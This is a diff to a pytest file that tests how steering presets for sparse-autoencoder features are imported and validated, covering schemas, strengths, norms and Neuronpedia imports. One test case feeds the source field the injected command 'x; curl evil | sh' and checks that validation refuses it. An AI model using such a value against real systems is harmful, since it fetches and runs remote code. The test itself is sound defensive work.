@@ -286,6 +286,7 @@ MANY = draft(*(add(1, 3) for _ in range(500)))
             draft(add(1, 3, 0.5, op="project"), add(1, 4, 0.2, op="project")),
             "Projections of layer 1 leave 0.5 and 0.2",
         ),
+        (draft(tests=[chinese_test(expect="less")]), "expects 'less'; give one of script"),
         (draft(tests=[chinese_test(of="Klingon")]), "'Klingon' is no script"),
         (draft(tests=[chinese_test(of=None)]), "needs `of`"),
         (draft(tests=[chinese_test(measure="distinct")]), "takes no `of`"),
@@ -433,20 +434,39 @@ def spoilt(document: dict[str, Any], *path: str | int, value: Any) -> dict[str, 
 @pytest.mark.parametrize(
     ("path", "value", "sentence"),
     [
-        (("schema",), "steering-preset/9", "expected 'steering-preset/1.0'"),
-        (("interventions",), None, "is no complete preset"),
+        (("schema",), "steering-preset/9", "schema: Input should be 'steering-preset/1.0'"),
+        (("interventions",), None, "interventions: Input should be a valid list"),
+        (("interventions",), [], "interventions: List should have at least 1"),
         (("interventions", 0), 7, "is no complete preset"),
-        (("interventions", 0, "op"), "explode", "is no complete preset"),
-        (("interventions", 0, "strength"), {}, "'None' as absolute"),
-        (("interventions", 0, "strength", "absolute"), math.nan, "'nan' as absolute"),
-        (("interventions", 0, "strength", "absolute"), "2", "'2' as absolute"),
+        (("interventions", 0, "op"), "explode", r"interventions.0.op: Input should be 'add'"),
+        (("interventions", 0, "enabled"), 2, "enabled: Input should be a valid boolean"),
+        (("interventions", 0, "strength"), None, "has no strength"),
+        (("interventions", 0, "strength", "absolute"), math.nan, "should be a finite number"),
+        (("interventions", 0, "strength", "absolute"), "2", "should be a valid number"),
+        (("interventions", 0, "strength", "absolute"), 10**400, "is no complete preset"),
         (("interventions", 0, "strength", "absolute"), 99.0, "not its absolute 99"),
-        (("interventions", 0, "strength", "value"), 1e300, "'1e\\+300' as value"),
+        (("interventions", 0, "strength", "unit"), "max_act", "which is nan"),
         (("interventions", 0, "id"), "nothing", "is not a feature id"),
+        (("interventions", 0, "id"), named(2, 3), "which are another feature's"),
+        (("interventions", 0, "feature"), 4, "which are another feature's"),
+        (("interventions", 0, "sae"), "s9", "which are another feature's"),
+        (("sae",), [], "sae: List should have at least 1"),
         (("sae", 0, "sha256"), "0" * 64, "has the SHA-256"),
-        (("sae", 0, "layer"), 9, "The SAE of layer 9"),
-        (("groups",), [{"name": "x"}] * 99, "99 groups are too many"),
-        (("positions", "prompt"), "some", "is no complete preset"),
+        (("sae", 0, "layer"), 9, "which are another feature's"),
+        (("sae", 0, "layer"), math.inf, "is no complete preset"),
+        (("sae", 0, "source"), "x; curl evil | sh", "should match pattern"),
+        (("groups",), [{"name": "x", "strength": 1.0}] * 99, "at most 50 items"),
+        (("groups",), [{"name": 1, "strength": 1.0}], "should be a valid string"),
+        (("groups",), [{"name": "a\nb", "strength": 1.0}], "has no name of its own"),
+        (("positions", "prompt"), "some", "positions.prompt: Input should be 'all'"),
+        (("positions", "generation"), ["all"], "positions.generation: Input should be 'all'"),
+        (("positions", "exclude_special_tokens"), "no", "should be a valid boolean"),
+        (("tests",), [chinese_test(expect="less").as_json()], "tests.0.expect"),
+        (("tests",), [chinese_test(measure="banana").as_json()], "tests.0.measure"),
+        (("tests",), [chinese_test().as_json() | {"prompts": "abc"}], "tests.0.prompts"),
+        (("tests",), [chinese_test().as_json() | {"samples": 1.5}], "tests.0.samples"),
+        (("tests",), [chinese_test(of="x" * 5_000).as_json()], "has 5,000 characters as `of`"),
+        (("name",), "a\n# b", "holds characters that cannot be printed"),
     ],
 )
 def test_a_document_that_is_none_is_refused(
@@ -460,8 +480,9 @@ def test_a_document_that_is_none_is_refused(
     made = create_preset(session, ann, "water", draft())
     document = document_of(session, ann, made.id)
 
+    broken = spoilt(document, *path, value=value)
     with pytest.raises((InvalidInputError, NotFoundError), match=sentence):
-        import_document(session, ann, spoilt(document, *path, value=value), name="taken")
+        import_document(session, ann, broken, name=None if path == ("name",) else "taken")
 
 
 def test_what_neuronpedia_keeps_of_steering_comes_in_as_raw_strengths(
@@ -494,7 +515,10 @@ def test_what_neuronpedia_keeps_of_steering_comes_in_as_raw_strengths(
         ({"steer_method": "ORTHOGONAL_DECOMP"}, "which is no addition of directions"),
         ({"strength_multiplier": "2"}, "has '2' as strength_multiplier"),
         ({"features": ["x"]}, "is no feature"),
-        ({"features": [{"modelId": "tiny-model", "layer": "1-res-w1k-l0_8"}]}, "names no feature"),
+        (
+            {"features": [{"modelId": "tiny-model", "layer": "1-res-w1k-l0_8"}]},
+            "names none; give modelId",
+        ),
         (
             {"features": [{"modelId": "m", "layer": "1-res-w1k-l0_8", "index": 1, "strength": 1}]},
             "There is no model 'm' here",
@@ -510,6 +534,132 @@ def test_what_is_not_an_addition_of_features_of_neuronpedia_is_refused(
 ) -> None:
     with pytest.raises((InvalidInputError, NotFoundError), match=sentence):
         import_document(session, ann, {"features": [], **spoil}, name="theirs")
+
+
+def test_a_document_of_saes_that_are_not_here_says_what_brings_them(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    made = create_preset(session, ann, "water", draft())
+    document = document_of(session, ann, made.id)
+    document["interventions"][0] |= {"sae": "s9", "id": named(9, 3)}
+    document["sae"][0] |= {"ref": "s9", "layer": 9, "source": "Qwen/SAE-Res-X"}
+
+    with pytest.raises(InvalidInputError, match="scopebook add Qwen/SAE-Res-X --layers 9"):
+        import_document(session, ann, document, name="taken")
+
+
+def test_a_document_of_other_weights_comes_in_with_a_warning(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    made = create_preset(session, ann, "water", draft())
+    document = document_of(session, ann, made.id)
+    document["model"] |= {"weights_sha256": "b" * 64}
+
+    taken = import_document(session, ann, document, name="taken")
+
+    own = read_version(session, ann, taken.id).document or {}
+    release = session.get_one(Release, saes[0].release_id)
+    [warning] = warnings_of(session, own, release)
+    assert "The weights of Tiny-Model are others" in warning
+
+
+def test_a_collection_made_since_changes_no_strength_that_nobody_touched(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    wanted = draft(add(1, 3, 0.5, unit="max_act"), add(2, 3, 0.5, unit="max_act"))
+    made = create_preset(session, ann, "water", wanted)
+    for sae in saes:
+        run = make_run(session, [sae], make_corpus(session, ["d"], name=f"new {sae.layer}"))
+        make_evidence(session, run, sae, 3, examples=make_examples([1]), largest=9.0)
+
+    save_version(
+        session,
+        ann,
+        made.id,
+        1,
+        draft(add(1, 3, 0.5, unit="max_act"), add(2, 3, 0.6, unit="max_act")),
+        "",
+    )
+
+    one, other = document_of(session, ann, made.id)["interventions"]
+    assert (one["strength"]["absolute"], one["strength"]["max_act"]) == (1.5, 3.0)
+    assert (other["strength"]["absolute"], other["strength"]["max_act"]) == (
+        pytest.approx(5.4),
+        9.0,
+    )
+
+
+def test_norms_are_those_of_each_layers_own_corpus(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    measure_norm(session, saes[0], 8.0)
+    run = make_run(session, saes[1:], make_corpus(session, ["d"], name="other"))
+    make_evidence(session, run, saes[1], 3, examples=make_examples([1]))
+    share = {"op": "add", "unit": "resid_norm"}
+
+    with pytest.raises(InvalidInputError, match="was not measured at layer 2 yet"):
+        create_preset(
+            session, ann, "water", draft(add(1, 3, 1.0, **share), add(2, 3, 1.0, **share))
+        )
+    measure_norm(session, saes[1], 20.0)
+    made = create_preset(
+        session, ann, "water", draft(add(1, 3, 1.0, **share), add(2, 3, 1.0, **share))
+    )
+
+    found = document_of(session, ann, made.id)["interventions"]
+    assert [one["strength"]["absolute"] for one in found] == [8.0, 20.0]
+
+
+def test_projections_that_are_not_done_together_may_differ(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    off = add(1, 3, 0.5, op="project")
+    on = add(1, 4, 0.2, op="project", enabled=False)
+    create_preset(session, ann, "off", draft(off, on))
+    groups = [Group(name="once"), Group(name="twice", strength=2.0)]
+    same = [
+        add(1, 3, 0.5, op="project", group="once"),
+        add(1, 4, 0.75, op="project", group="twice"),
+    ]
+    tests = [chinese_test()]
+    made = create_preset(session, ann, "same", draft(*same, groups=groups, tests=tests))
+
+    with pytest.raises(InvalidInputError, match="are projected as one space, of which none can"):
+        request_pruning(session, ann, made.id, 1, test="falls", group=None)
+
+
+def test_an_export_says_for_ever_what_its_version_was_called(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    made = create_preset(session, ann, "water", draft(), description="Says water.")
+    before = document_of(session, ann, made.id, 1)
+
+    change_preset(session, ann, made.id, 1, {"name": "rivers", "description": "Says rivers."})
+
+    assert document_of(session, ann, made.id, 1) == before
+
+
+def test_an_editor_hides_no_preset_from_itself(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    eve = make_actor(session, "eve", "editor")
+    made = create_preset(session, ann, "water", draft())
+
+    with pytest.raises(InvalidInputError, match="would be hidden from you too"):
+        change_preset(session, eve, made.id, 1, {"visible_to": "admin"})
+    change_preset(session, eve, made.id, 1, {"visible_to": "editor"})
+
+
+def test_a_test_whose_feature_has_lost_its_sae_is_refused(
+    session: Session, saes: list[Sae], ann: Actor
+) -> None:
+    reads = chinese_test(measure="activation", of=named(2, 3))
+    made = create_preset(session, ann, "water", draft(tests=[reads]))
+    saes[1].artifact = ""
+    session.flush()
+
+    with pytest.raises(InvalidInputError, match=r"reads a feature of layer 2.* --layers 2"):
+        request_tests(session, ann, made.id, 1)
 
 
 def test_hashes_are_held_against_those_of_the_files(session: Session, saes: list[Sae]) -> None:
